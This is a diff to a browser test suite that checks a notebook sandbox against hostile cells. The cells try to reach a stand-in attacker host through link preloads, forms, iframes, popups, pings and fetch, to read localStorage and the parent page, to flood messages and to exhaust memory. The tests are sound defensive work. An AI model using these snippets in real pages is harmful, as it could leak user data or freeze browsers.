@@ -83,14 +83,14 @@ function compiled(sources: readonly Source[]) {
 }
 
 /** Opens a notebook in a page like the explorer's. */
-async function open(sources: readonly Source[], { silent = 10_000 } = {}): Promise<void> {
+async function open(sources: readonly Source[], { silent = 10_000, trusted = false } = {}): Promise<void> {
   const cells = compiled(sources)
   stolen.length = 0
   asked.length = 0
   page = await (await browser.newContext()).newPage()
   await page.goto(`${siteUrl}/`)
   await page.evaluate('localStorage.setItem("draft", "mine")')
-  await page.evaluate(`open(${JSON.stringify(cells)}, ${silent})`)
+  await page.evaluate(`open(${JSON.stringify(cells)}, ${silent}, ${trusted})`)
 }
 
 const seen = () => page.evaluate('seen') as Promise<Seen>
@@ -135,6 +135,10 @@ describe('a hostile notebook', () => {
       `{ const form = document.createElement("form"); form.action = "${evil}/form"; document.body.append(form); form.submit() }`,
       `{ const frame = document.createElement("iframe"); frame.src = "${evil}/frame"; document.body.append(frame) }`,
       `window.open("${evil}/popup")`,
+      ...['preconnect', 'dns-prefetch', 'modulepreload', 'manifest', 'icon'].map(
+        (rel) =>
+          `{ const link = document.createElement("link"); Object.assign(link, {rel: "${rel}", href: "${evil}/${rel}"}); document.head.append(link) }`,
+      ),
       `{ const a = document.createElement("a"); Object.assign(a, {href: "${evil}/ping", ping: "${evil}/ping", target: "_blank"}); document.body.append(a); a.click() }`,
       {
         mode: 'html',
@@ -143,7 +147,7 @@ describe('a hostile notebook', () => {
       { mode: 'md', value: `![](${evil}/markdown) <img src=x onerror="fetch('${evil}/onerror')">` },
       'await new Promise((done) => setTimeout(done, 700))',
     ])
-    await rested(10)
+    await rested(15)
     expect(stolen).toEqual([])
     expect(asked).toEqual([])
     expect(page.context().pages()).toHaveLength(1)
@@ -216,6 +220,47 @@ describe('a hostile notebook', () => {
     })
     await until(({ end }) => end !== null)
     expect((await seen()).end).toEqual({ reason: 'silent', cell: 1 })
+  })
+
+  it('that floods the page with messages is stopped, and the page goes on', async () => {
+    await open(['setInterval(() => { for (let i = 0; i < 1000; i += 1) window.top.postMessage("x", "*") })'])
+    await until(({ end }) => end !== null)
+    expect((await seen()).end).toMatchObject({ reason: 'flood' })
+    const started = performance.now()
+    await page.evaluate('new Promise(requestAnimationFrame)')
+    expect(performance.now() - started).toBeLessThan(5000)
+  })
+
+  it('that takes all memory ends its own process, and not the page', async () => {
+    await open(['const hold = []; while (true) hold.push(new Array(1e6).fill(hold.length + 0.5))'], {
+      silent: 4000,
+    })
+    await until(({ end }) => end !== null)
+    expect(await page.evaluate('localStorage.getItem("draft")')).toBe('mine')
+    expect(await page.locator('iframe').count()).toBe(0)
+  })
+
+  it('with a huge output takes no more of the page than it may', async () => {
+    await open([
+      '{ const tall = document.createElement("div"); tall.style.height = "9000000px"; display(tall) }',
+      'document.createElement("p").textContent = "x".repeat(5e7)',
+    ])
+    await rested(2)
+    await expect
+      .poll(async () => (await page.locator('iframe').boundingBox())?.height)
+      .toBeLessThanOrEqual(100_000)
+  })
+
+  it('is allowed more when it is trusted, and still neither network nor page', async () => {
+    const attempts = [`await fetch("${evil}/fetch")`, 'localStorage', 'window.parent.document.title']
+    await open([...attempts, `window.open("about:blank") !== null || (() => { throw new Error() })()`], {
+      trusted: true,
+    })
+    for (const place of attempts.keys()) expect(await rested(place + 1)).toContain('error')
+    expect(await page.locator('iframe').getAttribute('sandbox')).toBe(
+      'allow-scripts allow-downloads allow-popups allow-popups-to-escape-sandbox',
+    )
+    expect(stolen).toEqual([])
   })
 
   it('runs in a process of its own', async () => {
